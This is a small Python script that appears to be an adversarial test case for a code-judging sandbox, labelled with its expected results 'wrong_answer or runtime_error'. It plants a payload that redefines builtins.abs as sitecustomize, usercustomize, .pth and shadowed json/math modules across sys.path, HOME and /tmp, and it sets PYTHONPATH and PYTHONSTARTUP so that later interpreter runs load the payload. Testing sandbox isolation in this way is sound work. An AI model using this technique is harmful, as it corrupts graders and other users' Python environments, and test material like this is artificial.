# attacks: the interpreter of the next run, by sitecustomize, usercustomize and .pth files
# call, assert, pytest: wrong_answer or runtime_error
import os, site, sys
CODE = "import builtins; builtins.abs = lambda x: 0\n"
places = [".", "/tmp", "/work", os.environ.get("HOME", "."), *sys.path]
try: places.append(site.getusersitepackages())
except Exception: pass
for place in places:
    for name in ("sitecustomize.py", "usercustomize.py", "x.pth", "json.py", "math.py"):
        try:
            os.makedirs(place, exist_ok=True)
            open(os.path.join(place, name), "w").write(CODE)
        except OSError: pass
os.environ["PYTHONPATH"] = os.environ["PYTHONSTARTUP"] = "/tmp"
def f(x=3): return 0
